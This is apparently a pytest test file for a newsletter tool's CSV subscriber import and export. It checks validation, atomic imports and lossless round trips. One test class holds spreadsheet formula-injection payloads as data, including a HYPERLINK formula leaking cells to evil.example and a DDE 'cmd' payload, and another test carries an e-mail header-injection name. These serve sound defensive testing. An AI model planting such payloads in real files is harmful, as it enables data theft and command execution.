"""CSV import and export: every row checked first, all or nothing, and a lossless round trip."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from mailer.topics import Taxonomy
from subscribers.importer import (
    COLUMNS,
    ImportFailed,
    ImportReport,
    RowError,
    export_csv,
    import_csv,
    neutralise,
    restore,
)
from subscribers.importer.rows import Addresses  # the per-domain shortcut, held equal below
from subscribers.lists import create_list
from subscribers.models import (
    Cadence,
    ConsentAction,
    ConsentEvent,
    ConsentSource,
    NewsletterList,
    Subscriber,
    SubscriptionStatus,
)
from subscribers.service import (
    InvalidAddress,
    list_subscriptions,
    normalise_email,
    subscribe,
    suppress,
)

HEADER = ",".join(COLUMNS)

Stored = tuple[str, str | None, str, str, str, int, tuple[str, ...]]


def write(tmp_path: Path, text: str, name: str = "people.csv") -> Path:
    """A CSV file with exactly this text, as UTF-8 (line endings untouched)."""
    path = tmp_path / name
    path.write_bytes(text.encode("utf-8"))
    return path


def run(
    sessions: sessionmaker[Session],
    newsletter: NewsletterList,
    path: Path,
    taxonomy: Taxonomy,
    *,
    dry_run: bool = False,
    smtputf8: bool = False,
) -> ImportReport:
    """Import the file and commit, as the CLI does."""
    with sessions() as session:
        report = import_csv(
            session, newsletter, path, taxonomy=taxonomy, dry_run=dry_run, smtputf8=smtputf8
        )
        session.commit()
        return report


def refused(
    sessions: sessionmaker[Session], newsletter: NewsletterList, path: Path, taxonomy: Taxonomy
) -> ImportFailed:
    """The ImportFailed an import of the file raises; committing after it must change nothing."""
    with sessions() as session:
        with pytest.raises(ImportFailed) as caught:
            import_csv(session, newsletter, path, taxonomy=taxonomy)
        session.commit()
    return caught.value


def stored(sessions: sessionmaker[Session], newsletter: NewsletterList) -> list[Stored]:
    """Every subscription of the list as plain values, by address."""
    with sessions() as session:
        return [
            (
                s.subscriber.email,
                s.subscriber.name,
                s.subscriber.timezone,
                str(s.status),
                str(s.cadence),
                s.send_hour,
                s.topics,
            )
            for s in list_subscriptions(session, newsletter)
        ]


def event_count(sessions: sessionmaker[Session]) -> int:
    """How many consent events the database holds."""
    with sessions() as session:
        return session.scalar(select(func.count()).select_from(ConsentEvent)) or 0


def outcome(normalise: Callable[[str], str], address: str) -> str:
    """The normalised address, or the InvalidAddress message."""
    try:
        return normalise(address)
    except InvalidAddress as exc:
        return f"InvalidAddress: {exc}"


def good_rows(count: int) -> list[str]:
    """``count`` valid data rows with every column, reader0@example.net onwards."""
    topics = ["chips", "models|policy", "", "funding"]
    return [
        f"reader{n}@example.net,Reader {n},confirmed,{'weekly' if n % 3 else 'daily'},"
        f"Europe/Berlin,{n % 24},{topics[n % 4]},website,2026-05-01T10:00:00+00:00"
        for n in range(count)
    ]


class TestImport:
    def test_rows_are_created_with_their_values_or_the_defaults(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """Given cells are stored as written; empty or absent ones take the defaults."""
        path = write(
            tmp_path,
            "Topics,EMAIL,cadence,timezone,send_hour,name,status\n"
            "policy|Chips,Ann@Example.NET,weekly,Asia/Shanghai,18,Ann Lee,confirmed\n"
            ",bo@example.net,,,,,\n",
        )
        report = run(sessions, newsletter, path, taxonomy)
        assert (report.rows, report.created, report.updated, report.unchanged) == (2, 2, 0, 0)
        assert stored(sessions, newsletter) == [
            (
                "Ann@example.net",
                "Ann Lee",
                "Asia/Shanghai",
                "confirmed",
                "weekly",
                18,
                ("chips", "policy"),
            ),
            ("bo@example.net", None, "UTC", "pending", "daily", 7, ()),
        ]

    def test_existing_subscriptions_are_updated_or_left_unchanged(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """A row that differs from what is stored updates it; an identical row is unchanged."""
        with sessions() as session:
            for email in ("same@example.net", "moves@example.net"):
                subscribe(session, newsletter, email, taxonomy=taxonomy, topics=["chips"])
            session.commit()
        path = write(
            tmp_path,
            "email,status,cadence,topics\n"
            "same@example.net,pending,daily,chips\n"
            "moves@example.net,confirmed,weekly,models|funding\n"
            "new@example.net,,,\n",
        )
        report = run(sessions, newsletter, path, taxonomy)
        assert (report.created, report.updated, report.unchanged) == (1, 1, 1)
        assert stored(sessions, newsletter) == [
            ("moves@example.net", None, "UTC", "confirmed", "weekly", 7, ("funding", "models")),
            ("new@example.net", None, "UTC", "pending", "daily", 7, ()),
            ("same@example.net", None, "UTC", "pending", "daily", 7, ("chips",)),
        ]

    def test_empty_cells_and_absent_columns_keep_what_is_stored(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """Only a present topics cell that is empty means every topic; other blanks keep values."""
        with sessions() as session:
            subscribe(
                session,
                newsletter,
                "kept@example.net",
                taxonomy=taxonomy,
                topics=["chips"],
                cadence=Cadence.WEEKLY,
                timezone="Asia/Tokyo",
                send_hour=9,
                name="Kei",
                confirmed=True,
            )
            subscribe(session, newsletter, "all@example.net", taxonomy=taxonomy, topics=["chips"])
            session.commit()
        path = write(
            tmp_path,
            "email,name,status,cadence,timezone,send_hour,topics\n"
            "kept@example.net,,,,,,chips\nall@example.net,,,,,,\n",
        )
        report = run(sessions, newsletter, path, taxonomy)
        assert (report.updated, report.unchanged) == (1, 1)
        assert stored(sessions, newsletter) == [
            ("all@example.net", None, "UTC", "pending", "daily", 7, ()),
            ("kept@example.net", "Kei", "Asia/Tokyo", "confirmed", "weekly", 9, ("chips",)),
        ]
        path = write(tmp_path, "email\nkept@example.net\n", "only-emails.csv")
        assert run(sessions, newsletter, path, taxonomy).unchanged == 1

    def test_addresses_are_stored_as_subscribe_would_store_them(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """Addresses are normalised exactly as normalise_email does, fast path or not (SMTPUTF8)."""
        addresses = [
            " Reader@EXAMPLE.net ",
            "Postmaster@Example.ORG",
            "o'brien+news@sub.example.co.uk",
            "x@EXAMPLE.net",
            "用户@例子.中国",
            "josé@bücher.example",
            "a.b-c_d@xn--bcher-kva.example",
        ]
        path = write(tmp_path, "email\n" + "\n".join(f'"{a}"' for a in addresses) + "\n")
        run(sessions, newsletter, path, taxonomy, smtputf8=True)
        expected = sorted(normalise_email(a) for a in addresses)
        assert sorted(row[0] for row in stored(sessions, newsletter)) == expected

    def test_a_subscriber_of_another_list_gets_a_subscription_here(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """A known person new to this list is subscribed, keeping one subscriber row."""
        with sessions() as session:
            other = create_list(session, "weekly", "Weekly", "Weekly <w@news.example.org>")
            subscribe(session, other, "both@example.net", taxonomy=taxonomy, timezone="Asia/Seoul")
            session.commit()
        path = write(tmp_path, "email,name,topics\nboth@example.net,Min,robotics|chips\n")
        assert run(sessions, newsletter, path, taxonomy).created == 1
        assert stored(sessions, newsletter) == [
            ("both@example.net", "Min", "Asia/Seoul", "pending", "daily", 7, ("chips", "robotics"))
        ]
        with sessions() as session:
            assert session.scalar(select(func.count()).select_from(Subscriber)) == 1

    def test_a_differently_cased_address_is_the_same_person(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """An address that differs from a stored one only in case updates that subscriber."""
        with sessions() as session:
            subscribe(session, newsletter, "reader@example.net", taxonomy=taxonomy)
            session.commit()
        path = write(tmp_path, "email,cadence\nREADER@example.net,weekly\n")
        report = run(sessions, newsletter, path, taxonomy)
        assert (report.created, report.updated) == (0, 1)
        assert [(row[0], row[4]) for row in stored(sessions, newsletter)] == [
            ("reader@example.net", "weekly")
        ]

    def test_progress_is_reported_every_thousand_rows_and_at_the_end(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """The callback gets (done, total) after each 1000 rows and (rows, rows) when done."""
        path = write(tmp_path, HEADER + "\n" + "\n".join(good_rows(2500)) + "\n")
        calls: list[tuple[int, int]] = []
        with sessions() as session:
            import_csv(
                session,
                newsletter,
                path,
                taxonomy=taxonomy,
                progress=lambda done, total: calls.append((done, total)),
            )
        assert calls == [(1000, 2500), (2000, 2500), (2500, 2500)]


class TestAllOrNothing:
    def test_one_bad_row_among_a_thousand_leaves_the_database_unchanged(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """A single bad row fails the file, names its line, and nothing at all is written."""
        with sessions() as session:
            subscribe(session, newsletter, "reader3@example.net", taxonomy=taxonomy)
            session.commit()
        before, events_before = stored(sessions, newsletter), event_count(sessions)
        rows = good_rows(1000)
        rows.insert(700, "not-an-address,Bad Row,confirmed,daily,UTC,7,chips,website,")
        path = write(tmp_path, HEADER + "\n" + "\n".join(rows) + "\n")
        failed = refused(sessions, newsletter, path, taxonomy)
        assert [(e.line, e.email) for e in failed.errors] == [(702, "not-an-address")]
        assert "line 702: not-an-address (invalid e-mail address" in str(failed)
        assert stored(sessions, newsletter) == before
        assert event_count(sessions) == events_before

    def test_a_status_change_the_transition_table_refuses_fails_the_file(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """Confirmed cannot go back to pending, and bounced is never imported into a new row."""
        with sessions() as session:
            subscribe(session, newsletter, "c@example.net", taxonomy=taxonomy, confirmed=True)
            session.commit()
        path = write(
            tmp_path,
            "email,status\nc@example.net,pending\nn@example.net,bounced\nok@example.net,\n",
        )
        failed = refused(sessions, newsletter, path, taxonomy)
        assert [str(e) for e in failed.errors] == [
            "line 2: c@example.net (a confirmed subscription cannot become pending"
            " (leave status empty to keep it))",
            "line 3: n@example.net (status bounced comes only from bounces"
            " (use pending, confirmed or unsubscribed))",
        ]
        assert [row[0] for row in stored(sessions, newsletter)] == ["c@example.net"]


class TestRowErrors:
    @pytest.mark.parametrize(
        ("row", "reason"),
        [
            ("bad@,,,,,,,,", "invalid e-mail address 'bad@': There must be something after"),
            ("a@example.net,,,,,,chips|bogus,,", "unknown topic bogus (valid topics: chips, "),
            ("a@example.net,,,monthly,,,,,", "unknown cadence 'monthly' (use daily or weekly)"),
            (
                "a@example.net,,maybe,,,,,,",
                "unknown status 'maybe' (use pending, confirmed or unsubscribed)",
            ),
            ("a@example.net,,,,Mars/Base,,,,", "unknown time zone 'Mars/Base'"),
            ("a@example.net,,,,Europe,,,,", "unknown time zone 'Europe'"),
            ("a@example.net,,,,,24,,,", "send_hour '24' is not a whole hour from 0 to 23"),
            ("a@example.net,,,,,7.5,,,", "send_hour '7.5' is not a whole hour from 0 to 23"),
            ("a@example.net,,,,,,,,yesterday", "consent_at 'yesterday' is not an ISO 8601"),
            ("a@example.net," + "n" * 201 + ",,,,,,,", "name is longer than 200 characters"),
            ('a@example.net,"Ann\r\nBcc: x@y.z",,,,,,,', "name contains a line break"),
            ('a@example.net,,,,,,,"' + '""' * 199 + '",', "consent_source is too long to record"),
            ("a@example.net,,,,,,,,,surplus", "10 cells but the header names 9 columns"),
            (",Nobody,,,,,,,", "email is empty"),
        ],
    )
    def test_a_bad_cell_is_reported_with_its_line_and_reason(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
        row: str,
        reason: str,
    ) -> None:
        """Each kind of bad cell yields one error naming the line and saying what is wrong."""
        path = write(tmp_path, f"{HEADER}\nfine@example.net,,,,,,,,\n{row}\n")
        [error] = refused(sessions, newsletter, path, taxonomy).errors
        assert error.line == 3
        assert reason in error.reason

    def test_every_bad_row_is_reported_at_once(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """All problems of all rows come back together, in line order, each row by its line."""
        path = write(
            tmp_path,
            "email,cadence,timezone,topics\n"
            "first@example.net,daily,UTC,chips\n"
            "bad@,daily,UTC,\n"
            "x@example.net,hourly,Nowhere/Town,\n"
            "FIRST@example.net,weekly,UTC,\n"
            "y@example.net,daily,UTC,bogus\n",
        )
        failed = refused(sessions, newsletter, path, taxonomy)
        assert [(e.line, e.email, e.reason.split(" (")[0]) for e in failed.errors] == [
            (3, "bad@", "invalid e-mail address 'bad@': There must be something after the @-sign."),
            (4, "x@example.net", "unknown cadence 'hourly'"),
            (4, "x@example.net", "unknown time zone 'Nowhere/Town'"),
            (5, "FIRST@example.net", "duplicate of line 2"),
            (6, "y@example.net", "unknown topic bogus"),
        ]
        assert "(valid topics: chips, models, funding, policy" in failed.errors[-1].reason

    def test_unknown_columns_are_named_with_the_known_ones(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """A header with columns the importer does not know fails at line 1, naming them."""
        path = write(tmp_path, "email,colour,Shoe Size\na@example.net,red,42\n")
        assert [str(e) for e in refused(sessions, newsletter, path, taxonomy).errors] == [
            "line 1: unknown column 'colour', 'shoe size' (columns: email, name, status, cadence,"
            " timezone, send_hour, topics, consent_source, consent_at)"
        ]

    @pytest.mark.parametrize(
        ("text", "reason"),
        [
            ("name,status\nAnn,confirmed\n", "no email column (it is required)"),
            ("email,name,email\n", "column email appears twice"),
            ("email,,name\n", "column 2 has no name"),
            ("", "the file is empty; it needs a header with an email column"),
            ("\n\n", "the file is empty; it needs a header with an email column"),
        ],
    )
    def test_a_bad_header_is_reported_at_line_one(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
        text: str,
        reason: str,
    ) -> None:
        """A missing, repeated or unnamed column, or no header at all, is a line 1 error."""
        path = write(tmp_path, text)
        assert [str(e) for e in refused(sessions, newsletter, path, taxonomy).errors] == [
            f"line 1: {reason}"
        ]

    def test_the_message_counts_errors_and_quotes_the_first_five(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """The exception message gives the file, the count, five errors and how many more."""
        path = write(tmp_path, "email\n" + "".join(f"bad{n}@\n" for n in range(7)))
        message = str(refused(sessions, newsletter, path, taxonomy))
        lines = message.splitlines()
        assert lines[0] == f"{path}: 7 errors, nothing imported"
        assert [line.split(":")[0] for line in lines[1:6]] == [f"  line {n}" for n in range(2, 7)]
        assert lines[6:] == ["  … and 2 more"]

    def test_a_row_error_reads_as_one_line(self) -> None:
        """A RowError prints as 'line N: address (reason)', or without the address if none."""
        assert str(RowError(7, "bad@", "invalid")) == "line 7: bad@ (invalid)"
        assert str(RowError(1, None, "no email column")) == "line 1: no email column"


class TestFileFormat:
    @pytest.mark.parametrize(
        "text",
        [
            "\ufeffemail,name\r\na@example.net,Ann\r\nb@example.net,Bo\r\n",
            "email,name\ra@example.net,Ann\rb@example.net,Bo\r",
            'email,name\n\na@example.net,"Ann"\n"b@example.net",Bo',
        ],
        ids=["bom-crlf", "cr", "blank-lines-quotes-no-final-newline"],
    )
    def test_bom_line_endings_and_quoting_are_accepted(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
        text: str,
    ) -> None:
        """A UTF-8 BOM, CRLF or CR line endings, blank lines and quoted cells all import."""
        report = run(sessions, newsletter, write(tmp_path, text), taxonomy)
        assert report.created == 2
        assert [(row[0], row[1]) for row in stored(sessions, newsletter)] == [
            ("a@example.net", "Ann"),
            ("b@example.net", "Bo"),
        ]

    def test_a_non_utf8_file_names_the_undecodable_line(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """Latin-1 bytes fail the import with the line they are on."""
        path = tmp_path / "latin1.csv"
        path.write_bytes("email,name\na@example.net,Ann\nb@example.net,José\n".encode("latin-1"))
        assert [str(e) for e in refused(sessions, newsletter, path, taxonomy).errors] == [
            "line 3: not UTF-8 (byte 0xe9); save the file as UTF-8"
        ]

    def test_a_quoted_cell_spanning_lines_keeps_later_line_numbers_true(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """Lines are the file's own, so a row after a two-line cell is numbered right."""
        path = write(tmp_path, 'email,name\na@example.net,"Ann\nLee"\nbad@,Bo\n')
        assert [error.line for error in refused(sessions, newsletter, path, taxonomy).errors] == [
            2,
            4,
        ]

    def test_broken_quoting_is_reported_with_its_line(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """A quote in the middle of a cell is refused as invalid CSV at that line."""
        path = write(tmp_path, 'email,name\na@example.net,Ann\nb@example.net,"Bo"x\n')
        [error] = refused(sessions, newsletter, path, taxonomy).errors
        assert (error.line, error.reason.split(":")[0]) == (3, "not valid CSV")

    def test_a_nul_byte_names_its_line(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """A NUL byte, which no database stores as text, fails the file at its line."""
        path = write(tmp_path, "email,name\na@example.net,A\x00n\n")
        assert [str(e) for e in refused(sessions, newsletter, path, taxonomy).errors] == [
            "line 2: contains a NUL byte (is this a CSV file?)"
        ]

    def test_an_unreadable_file_is_an_import_failure(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """A missing file raises ImportFailed at line 1, not an OSError."""
        failed = refused(sessions, newsletter, tmp_path / "missing.csv", taxonomy)
        assert [str(e) for e in failed.errors] == [
            "line 1: cannot read the file: No such file or directory"
        ]


class TestAddressNormalisation:
    # The importer memoises email_validator's verdict per domain (it dominates the cost of a
    # row); this property keeps that shortcut identical to normalise_email, errors included.
    @given(
        local=st.sampled_from(
            [
                "reader",
                "Reader.Name",
                "o'brien+tag",
                "a..b",
                ".lead",
                "POSTMASTER",
                "Abuse",
                "josé",
                "用户",
                "x" * 70,
                "a b",
                '"quoted"',
                "",
            ]
        ),
        domain=st.sampled_from(
            [
                "example.net",
                "EXAMPLE.Net",
                "sub.example.co.uk",
                "bücher.example",
                "xn--bcher-kva.example",
                "localhost",
                "example",
                "-bad.example",
                "ex_ample.net",
                "[192.0.2.1]",
                "example.123",
                "a@b.example",
                "x" * 250 + ".com",
                "",
            ]
        ),
    )
    def test_the_importer_normalises_exactly_like_normalise_email(
        self, local: str, domain: str
    ) -> None:
        """Any address normalises, or fails with the same message, as normalise_email does."""
        address = f"{local}@{domain}"
        assert outcome(Addresses().normalise, address) == outcome(normalise_email, address)


class TestSuppressions:
    def test_suppressed_addresses_are_skipped_and_counted(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """A suppressed address, in any case, is never added or changed by an import."""
        with sessions() as session:
            subscribe(session, newsletter, "kept@example.net", taxonomy=taxonomy)
            suppress(session, "kept@example.net", "complaint")
            suppress(session, "gone@example.net", "hard bounce")
            session.commit()
        path = write(
            tmp_path,
            "email,status\nGONE@example.net,confirmed\nkept@example.net,confirmed\n"
            "new@example.net,confirmed\n",
        )
        report = run(sessions, newsletter, path, taxonomy)
        assert (report.rows, report.created, report.skipped_suppressed) == (3, 1, 2)
        assert report.suppressed_lines == [2, 3]
        assert [(row[0], row[3]) for row in stored(sessions, newsletter)] == [
            ("kept@example.net", "pending"),
            ("new@example.net", "confirmed"),
        ]
        with sessions() as session:
            assert session.scalar(select(Subscriber).where(Subscriber.email.like("gone%"))) is None


class TestDryRun:
    def test_a_dry_run_reports_the_same_counts_and_writes_nothing(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """dry_run returns what the import would do, and the database stays as it was."""
        with sessions() as session:
            subscribe(session, newsletter, "reader1@example.net", taxonomy=taxonomy)
            subscribe(session, newsletter, "reader2@example.net", taxonomy=taxonomy)
            session.commit()
        before, events_before = stored(sessions, newsletter), event_count(sessions)
        path = write(tmp_path, HEADER + "\n" + "\n".join(good_rows(5)) + "\n")
        dry = run(sessions, newsletter, path, taxonomy, dry_run=True)
        assert (dry.dry_run, dry.created, dry.updated) == (True, 3, 2)
        assert stored(sessions, newsletter) == before
        assert event_count(sessions) == events_before
        real = run(sessions, newsletter, path, taxonomy)
        assert (real.created, real.updated, real.dry_run) == (3, 2, False)


class TestConsent:
    def test_created_and_changed_subscriptions_get_an_import_event(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """Each created or changed row records source import with its consent source and time."""
        with sessions() as session:
            subscribe(session, newsletter, "same@example.net", taxonomy=taxonomy)
            session.commit()
        events_before = event_count(sessions)
        path = write(
            tmp_path,
            "email,consent_source,consent_at\n"
            "new@example.net,spring fair,2026-04-02T15:30:00\n"
            "same@example.net,,\n",
        )
        run(sessions, newsletter, path, taxonomy)
        with sessions() as session:
            events = session.scalars(
                select(ConsentEvent).where(ConsentEvent.id > events_before)
            ).all()
            assert [(e.action, e.source, e.list_id) for e in events] == [
                (ConsentAction.IMPORT, ConsentSource.IMPORT, newsletter.id)
            ]
            assert json.loads(events[0].detail or "") == {
                "consent_source": "spring fair",
                "consent_at": "2026-04-02T15:30:00+00:00",
            }


class TestExport:
    def test_export_writes_every_column_by_address(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """Rows come out sorted by address, topics joined by '|', consent from the import."""
        path = write(
            tmp_path,
            f"{HEADER}\n"
            "zoe@example.net,Zoë,confirmed,weekly,Europe/Paris,6,policy|chips,fair,2026-01-02\n"
            "al@example.net,,,,,,,,\n",
        )
        run(sessions, newsletter, path, taxonomy)
        out = tmp_path / "out.csv"
        with sessions() as session:
            assert export_csv(session, newsletter, out) == 2
        assert out.read_text(encoding="utf-8").splitlines() == [
            HEADER,
            "al@example.net,,pending,daily,UTC,7,,import,",
            "zoe@example.net,Zoë,confirmed,weekly,Europe/Paris,6,chips|policy,fair,"
            "2026-01-02T00:00:00+00:00",
        ]

    def test_an_exported_file_imports_back_unchanged(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """Export then import reports every row unchanged, and the data and export are equal."""
        with sessions() as session:
            subscribe(
                session,
                newsletter,
                "web@example.net",
                taxonomy=taxonomy,
                topics=["robotics"],
                confirmed=True,
            )
            session.commit()
        rows = [*good_rows(40), 'quote@example.net,"O\'Neil, ""Q""",unsubscribed,,,,,,']
        run(sessions, newsletter, write(tmp_path, HEADER + "\n" + "\n".join(rows) + "\n"), taxonomy)
        before, events_before = stored(sessions, newsletter), event_count(sessions)
        first, second = tmp_path / "first.csv", tmp_path / "second.csv"
        with sessions() as session:
            assert export_csv(session, newsletter, first) == 42
        report = run(sessions, newsletter, first, taxonomy)
        assert (report.rows, report.unchanged) == (42, 42)
        assert stored(sessions, newsletter) == before
        assert event_count(sessions) == events_before
        with sessions() as session:
            export_csv(session, newsletter, second)
        assert second.read_bytes() == first.read_bytes()

    def test_a_subscription_made_elsewhere_exports_where_and_when_it_was_made(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """Without an import event, consent_source is the event's source and consent_at its time."""
        with sessions() as session:
            subscribe(session, newsletter, "cli@example.net", taxonomy=taxonomy)
            session.commit()
        out = tmp_path / "out.csv"
        with sessions() as session:
            export_csv(session, newsletter, out)
        row = out.read_text(encoding="utf-8").splitlines()[1].split(",")
        assert row[-2] == "cli"
        assert row[-1].endswith("+00:00")

    def test_bounced_subscriptions_round_trip(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """A bounced status that an import cannot set still re-imports when it is unchanged."""
        with sessions() as session:
            sub = subscribe(session, newsletter, "b@example.net", taxonomy=taxonomy, confirmed=True)
            sub.status = SubscriptionStatus.BOUNCED
            session.commit()
        out = tmp_path / "out.csv"
        with sessions() as session:
            export_csv(session, newsletter, out)
        assert run(sessions, newsletter, out, taxonomy).unchanged == 1


class TestHostileCells:
    def test_formula_cells_are_exported_as_text_and_import_back_unchanged(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """Cells a spreadsheet would run are exported behind a ' and import back as they were."""
        names = [
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "'=already quoted",
            "'plain apostrophe",
            "Ann = Bob",
        ]
        rows = [
            f'reader{n}@example.net,"{name.replace(chr(34), chr(34) * 2)}"'
            for n, name in enumerate(names)
        ]
        rows.append('"""=1+1""@example.org",Formula Address')
        run(
            sessions, newsletter, write(tmp_path, "email,name\n" + "\n".join(rows) + "\n"), taxonomy
        )
        before = stored(sessions, newsletter)
        assert ("=1+1@example.org", "Formula Address") in [(r[0], r[1]) for r in before]
        first = tmp_path / "first.csv"
        with sessions() as session:
            export_csv(session, newsletter, first)
        with first.open(encoding="utf-8", newline="") as stream:
            cells = [cell for row in csv.reader(stream) for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert "'=1+1@example.org" in cells
        assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
        # A ' typed before a formula in a file means "text", as in a spreadsheet: it is taken off.
        assert "'=already quoted" in cells and "'plain apostrophe" in cells
        report = run(sessions, newsletter, first, taxonomy)
        assert report.unchanged == len(names) + 1
        assert stored(sessions, newsletter) == before

    @pytest.mark.parametrize("address", ["=1+1@example.org", "+cmd@example.org", "-x@example.org"])
    def test_an_address_a_spreadsheet_would_run_is_refused_unquoted(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
        address: str,
    ) -> None:
        """An address cell beginning with a formula character fails its row, naming the fix."""
        failure = refused(sessions, newsletter, write(tmp_path, f"email\n{address}\n"), taxonomy)
        assert [(e.line, e.email) for e in failure.errors] == [(2, address)]
        assert "runs as a formula" in failure.errors[0].reason
        assert stored(sessions, newsletter) == []

    @given(st.text())
    def test_restore_undoes_neutralise(self, cell: str) -> None:
        """Any cell comes back from neutralise and restore unchanged, and never opens a formula."""
        assert restore(neutralise(cell)) == cell
        assert neutralise(cell)[:1] not in ("=", "+", "-", "@", "\t", "\r")


class TestNonAsciiAddresses:
    def test_a_non_ascii_local_part_is_refused_without_smtputf8(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """ü@example.org fails its row unless the relay takes SMTPUTF8; IDN domains always pass."""
        text = "email\nuser@bücher.de\nuser2@xn--bcher-kva.de\nü@example.org\n"
        failure = refused(sessions, newsletter, write(tmp_path, text), taxonomy)
        assert [(e.line, e.email) for e in failure.errors] == [(4, "ü@example.org")]
        assert "outside ASCII" in failure.errors[0].reason
        assert stored(sessions, newsletter) == []
        run(sessions, newsletter, write(tmp_path, text), taxonomy, smtputf8=True)
        assert sorted(r[0] for r in stored(sessions, newsletter)) == [
            "user2@bücher.de",
            "user@bücher.de",
            "ü@example.org",
        ]
